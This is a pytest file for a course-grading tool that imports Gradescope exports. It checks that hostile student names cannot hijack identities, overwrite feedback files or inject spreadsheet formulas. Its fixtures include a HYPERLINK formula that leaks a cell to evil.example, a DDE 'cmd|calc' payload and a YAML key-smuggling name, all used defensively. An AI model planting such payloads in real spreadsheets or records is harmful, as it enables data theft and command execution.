"""Names from a Gradescope export, as a hostile student would choose them; each must cost nothing.

Gradescope's "Export Submissions" folder holds ``submission_metadata.yml``, where each
submission's submitters carry ``:name:`` (the student types it), ``:sid:`` and ``:email:``.
A name must never decide whose row a grade lands in, which feedback file is written, or
what a spreadsheet runs: identities come from ``:sid:`` (else ``:email:``, else the
submission's id), file names from a sanitised unique key, and every CSV cell that a
spreadsheet would read as a formula is neutralised. Each test goes through
``gradekit grade`` (the CLI) or ``grade_folder``/``write_outputs``, as the instructor does.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from gradekit.cli.commands import main
from gradekit.core.plain import solution_dict
from gradekit.course.batch import discover, BatchOptions, grade_folder, write_outputs
from gradekit.catalog.catalog import load_catalog
from gradekit.catalog.variants import variant

CAT = load_catalog()
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'


pytestmark = pytest.mark.usefixtures("own_tempdir")  # conftest: batches' temp folders in the test's own


def key(pid: str, student: str | None = None) -> dict:
    p = variant(CAT, CAT.resolve(pid), student)
    return solution_dict(p, CAT.solve(p))["answers"]


def submitter(name: str, sid: str | None, email: str | None) -> str:
    """One ``:submitters:`` entry as Gradescope (Ruby's YAML) writes it; a multi-line name is a block scalar."""
    if "\n" in name:
        body = "".join(f"      {line}\n" for line in name.split("\n"))
        lines = ["  - :name: |-\n" + body]
    else:
        lines = [f"  - :name: {json.dumps(name)}\n"]
    if sid is not None:
        lines.append(f"    :sid: {json.dumps(sid)}\n")
    if email is not None:
        lines.append(f"    :email: {json.dumps(email)}\n")
    return "".join(lines)


def export(tmp_path: Path, students: list[tuple[str, str | None, str | None, dict]]) -> Path:
    """An export folder: submission_<n>/answers.json per (name, sid, email, answers), and the metadata."""
    d = tmp_path / "export"
    d.mkdir()
    meta = []
    for n, (name, sid, email, answers) in enumerate(students, 101):
        (d / f"submission_{n}").mkdir()
        (d / f"submission_{n}" / "answers.json").write_text(json.dumps(answers))
        meta.append(f"submission_{n}:\n  :submitters:\n{submitter(name, sid, email)}"
                    "  :created_at: 2026-01-01 10:00:00.0 -0500\n  :score: 0.0\n")
    (d / "submission_metadata.yml").write_text("".join(meta))
    return d


def grade_cli(folder: Path, out: Path, *extra: str):
    r = CliRunner().invoke(main, ["grade", str(folder), "-a", "ece661-hw1", "-o", str(out), "-j", "1", *extra])
    return r


def cells(path: Path) -> list[str]:
    return [c for row in csv.reader(open(path, newline="")) for c in row]


FULL = {"q3.2": key("ece661-hw1/q3.2")}  # 5 points, the same for every student
ONE = {"q3.2": {"L": 116}}  # 1 point


def test_names_decide_no_identity_no_file_and_no_formula(tmp_path):
    """Ada and Bob are honest; the others attack with their names only. Before: Mallory's two-line name filed
    her as Ada's sid, a name equal to Bob's sid renamed Bob's row, 'Ada_Lovelace' overwrote 'Ada Lovelace''s
    feedback, and the formula landed in grades.csv."""
    d = export(tmp_path, [
        ("Ada Lovelace", "1001", "ada@x.edu", FULL),
        ("Bob", "1002", "bob@x.edu", FULL),
        ("Mallory\n:sid: '1001'", "6666", "mallory@x.edu", ONE),   # a second line that looks like a sid
        ("1002", "", "trudy@x.edu", ONE),                          # her name is Bob's sid, she has none
        ("Ada_Lovelace", "", "", ONE),                             # no sid, no email: her submission's id
        (FORMULA, "", "eve@x.edu", ONE),
        ("Ada Lovelace", "", "", FULL),                            # 'Ada_Lovelace' once wrote over her file
    ])
    out = tmp_path / "grades"
    r = grade_cli(d, out)
    assert r.exit_code == 0, r.output
    rows = {row["student"]: row for row in csv.DictReader(open(out / "grades.csv", newline=""))}
    # identities from sid, else email, else the submission id: the honest rows stay as they are
    assert set(rows) == {"1001", "1002", "6666", "trudy@x.edu", "submission_105", "eve@x.edu", "submission_107"}
    assert rows["1001"]["total"] == "5" and rows["1002"]["total"] == "5"
    assert rows["6666"]["total"] == "1" and rows["trudy@x.edu"]["total"] == "1"
    assert rows["submission_105"]["total"] == "1" and rows["submission_107"]["total"] == "5"
    book = {row[0]: row[1] for row in list(csv.reader(open(out / "gradebook.csv", newline="")))[1:]}
    assert book["1001"] == "5" and book["1002"] == "5" and book["6666"] == "1"
    # no cell of any CSV starts what a spreadsheet runs
    for name in ("grades.csv", "gradebook.csv", "parts.csv"):
        assert not [c for c in cells(out / name) if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name
    # one feedback file per student, none overwritten, each named by its identity, not by a name
    feedback = sorted(p.name for p in (out / "feedback").iterdir())
    assert len(feedback) == 7 and feedback == sorted(set(feedback))
    assert (out / "feedback" / "1001.md").read_text().count("**Total: 5 /") == 1
    assert "**Total: 1 /" in (out / "feedback" / "submission_105.md").read_text()
    assert "**Total: 5 /" in (out / "feedback" / "submission_107.md").read_text()
    assert "Ada_Lovelace" not in "".join(feedback) and "HYPERLINK" not in "".join(feedback)
    # the names are kept for people to read, beside the identity
    data = json.loads((out / "grades.json").read_text())
    names = {s["student"]: s["name"] for s in data["students"]}
    assert names["1001"] == "Ada Lovelace" and names["6666"] == "Mallory\n:sid: '1001'"
    assert names["eve@x.edu"] == FORMULA


def test_an_identity_a_spreadsheet_would_run_is_neutralised_in_every_csv(tmp_path):
    """Emails may start with '=' or '+'; an answers file's stem is the student's id in a plain folder."""
    d = export(tmp_path, [("Eve", "", "=1+2@x.edu", ONE), ("Zed", "+cmd|' /C calc'!A0", "", ONE)])
    out = tmp_path / "grades"
    r = grade_cli(d, out)
    assert r.exit_code == 0, r.output
    for name in ("grades.csv", "gradebook.csv"):
        got = cells(out / name)
        assert "'=1+2@x.edu" in got and "'+cmd|' /C calc'!A0" in got, got
        assert not [c for c in got if c[:1] in ("=", "+", "-", "@")]
    plain = tmp_path / "plain"
    plain.mkdir()
    (plain / "@SUM(1+1).json").write_text(json.dumps(ONE))
    (plain / "-2+3.py").write_text("raise ValueError('=cmd|calc')\nANSWERS = {}\n")
    out2 = tmp_path / "grades2"
    assert grade_cli(plain, out2).exit_code == 0
    rows = list(csv.reader(open(out2 / "grades.csv", newline="")))[1:]
    assert {r[0] for r in rows} == {"'@SUM(1+1)", "'-2+3"}
    assert not [c for c in cells(out2 / "grades.csv") if c[:1] in ("=", "+", "-", "@")]
    # the JSON keeps the identity as it is: it is data, not a spreadsheet
    assert {s["student"] for s in json.loads((out2 / "grades.json").read_text())["students"]} == {"@SUM(1+1)", "-2+3"}


def test_a_300_character_name_costs_nothing_else(tmp_path):
    """Before: its feedback file's name was too long for the file system, and the batch died before
    grades.json and report.png. Now every output is written and the long name is shortened for display only."""
    long = "A" * 300
    d = export(tmp_path, [("Ada Lovelace", "1001", "ada@x.edu", FULL), (long, "", "", ONE),
                          ("Bob", "B" * 300, "", ONE)])  # a long sid: an identity is never cut
    out = tmp_path / "grades"
    r = grade_cli(d, out)
    assert r.exit_code == 0, r.output
    assert {p.name for p in out.iterdir()} >= {"grades.csv", "grades.json", "report.png", "gradebook.csv"}
    rows = {row["student"]: row["total"] for row in csv.DictReader(open(out / "grades.csv", newline=""))}
    assert rows == {"1001": "5", "submission_102": "1", "B" * 300: "1"}
    files = [p.name for p in (out / "feedback").iterdir()]
    assert len(files) == 3 and all(len(f.encode()) <= 100 for f in files)
    texts = [p.read_text() for p in (out / "feedback").iterdir()]
    assert any("B" * 300 in t for t in texts)  # the identity in full
    assert not any(long in t for t in texts) and any("A" * 60 in t and "…" in t for t in texts)  # the name shortened


def test_names_that_differ_only_by_case_or_by_characters_a_file_name_drops_get_files_of_their_own(tmp_path):
    """A plain folder: the file's stem is the identity. 'ada', 'Ada', 'a da' and 'a_da' are four students, and
    four feedback files, on a file system that ignores case too."""
    d = tmp_path / "subs"
    d.mkdir()
    for stem, answers in (("ada", FULL), ("Ada", ONE), ("a da", ONE), ("a_da", {})):
        (d / f"{stem}.json").write_text(json.dumps(answers))
    res = grade_folder(d, "ece661-hw1", BatchOptions(progress=False, jobs=1))
    paths = write_outputs(res, tmp_path / "out")
    files = sorted(p.name for p in paths["feedback"].iterdir())
    assert len(files) == 4 and len({f.lower() for f in files}) == 4
    by_header = {p.read_text().splitlines()[0]: p.read_text() for p in paths["feedback"].iterdir()}
    assert "**Total: 5 /" in by_header["# ece661-hw1: feedback for ada"]
    assert "**Total: 1 /" in by_header["# ece661-hw1: feedback for Ada"]
    assert "**Total: 0 /" in by_header["# ece661-hw1: feedback for a_da"]


def test_the_metadata_is_read_as_yaml_with_a_size_bound(tmp_path, monkeypatch):
    """Quoted, flow-style and Ruby-tagged entries read as any YAML reader reads them; a file over the bound,
    or one that is not YAML, is the instructor's bad input (exit 2), named, never a silent guess."""
    d = tmp_path / "export"
    for n in (1, 2, 3):
        (d / f"submission_{n}").mkdir(parents=True)
        (d / f"submission_{n}" / "answers.json").write_text(json.dumps(ONE))
    (d / "submission_metadata.yml").write_text(
        "submission_1: {':submitters': [{':name': 'A', ':sid': '007'}]}\n"
        "'submission_2':\n  :submitters: !ruby/array:Array\n  - !ruby/hash:Hash\n    :sid: 0123\n    :name: B\n"
        "submission_3:\n  :submitters:\n  - :name: C\n    :sid:\n    :email: c@x.edu\n")
    assert [(e.student, e.path.name) for e in discover(d)] == [
        ("007", "submission_1"), ("0123", "submission_2"), ("c@x.edu", "submission_3")]
    (d / "submission_metadata.yml").write_text("submission_1: [unclosed\n")
    r = grade_cli(d, tmp_path / "out")
    assert r.exit_code == 2 and "submission_metadata.yml" in r.output and "YAML" in r.output
    from gradekit.course import export as gs_export

    monkeypatch.setattr(gs_export, "MAX_METADATA_BYTES", 2**20)
    (d / "submission_metadata.yml").write_text("# padding\n" * (2**20 // 10 + 1))
    r = grade_cli(d, tmp_path / "out")
    assert r.exit_code == 2 and "submission_metadata.yml" in r.output and "MiB" in r.output


def test_two_submissions_that_give_the_same_sid_are_both_kept_and_the_instructor_is_told(tmp_path):
    d = export(tmp_path, [("Ada", "1001", "ada@x.edu", FULL), ("Ada again", "1001", "ada2@x.edu", ONE)])
    out = tmp_path / "grades"
    r = grade_cli(d, out)
    assert r.exit_code == 0, r.output
    rows = {row["student"]: row["total"] for row in csv.DictReader(open(out / "grades.csv", newline=""))}
    assert rows == {"1001 (submission_101)": "5", "1001 (submission_102)": "1"}
    said = " ".join(r.output.split())
    assert "1001" in said and "submission_101" in said and "submission_102" in said and "same" in said
    assert any("1001" in n for n in json.loads((out / "grades.json").read_text())["notes"])


@pytest.mark.parametrize("text", ["'bob", "bob", "=cmd", "+x", "-1", "@a", "'=x", "''=x", "'", ""])
def test_a_neutralised_cell_reads_back_as_the_text_it_was(text):
    from gradekit.core.untrusted import FORMULA_STARTS, spreadsheet_cell, spreadsheet_text

    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_STARTS) and spreadsheet_text(cell) == text
